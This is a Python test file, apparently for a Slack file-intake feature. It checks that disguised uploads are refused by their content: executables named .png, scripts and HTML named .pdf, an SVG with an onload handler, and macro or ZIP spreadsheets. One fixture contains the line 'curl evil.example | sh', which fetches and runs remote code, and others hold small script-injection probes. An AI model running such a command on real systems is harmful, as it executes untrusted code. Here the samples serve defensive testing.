"""Case 32: a .png that is a program, a sign-in page in place of a file: refused by content, the scope named."""

import pytest

from infra.local.slack.faults import DOWNLOAD
from tests.adversarial.obedient import Puppet
from tests.adversarial.taking import CSV, Taking
from tests.unit.actions import hostile


@pytest.mark.parametrize(
    ("name", "data", "said"),
    [
        ("cat.png", b"MZ\x90\0" + bytes(100), "is named .png, but it is a Windows program"),
        ("cat.png", b"\x7fELF\x02" + bytes(100), "is named .png, but it is a Linux program"),
        ("plan.pdf", b"#!/bin/sh\ncurl evil.example | sh\n", "is named .pdf, but it is a script"),
        ("plan.pdf", b"<html><script>alert(1)</script>", "is named .pdf, but it is a web page"),
        ("logo.png", b"<svg onload='alert(1)'/>", "is named .png, but it is an SVG drawing"),
        ("plan.xlsx", hostile.archive({"[Content_Types].xml": b"", "xl/vbaProject.bin": b""}), "with macros"),
        ("plan.xlsx", hostile.archive({"run.exe": b"MZ"}), "is named .xlsx, but it is a ZIP archive"),
    ],
)
def test_the_content_decides(puppet: Puppet, name: str, data: bytes, said: str) -> None:
    taking = Taking(puppet)
    before = puppet.office.stored()
    row = taking.take(taking.shared(name, data))
    assert (row.file, said in row.said) == (None, True), row.said
    assert puppet.office.stored() == before


def test_a_picture_by_another_name_is_still_a_picture(puppet: Puppet) -> None:
    taking = Taking(puppet)
    row = taking.take(taking.shared("report.pdf", hostile.png(40, 30)))
    assert row.file is not None
    assert (row.file.kind, row.file.mime) == ("image", "image/png")
    assert "PNG" in row.said


@pytest.mark.parametrize("name", ["list.csv", "cat.png"])
def test_the_sign_in_page_names_the_scope(puppet: Puppet, name: str) -> None:
    taking = Taking(puppet)
    file = taking.shared(name, CSV)
    puppet.stack.slack.faults.add(DOWNLOAD, "sign_in")
    row = taking.take(file)
    assert "sign-in page" in row.said
    assert "files:read" in row.said
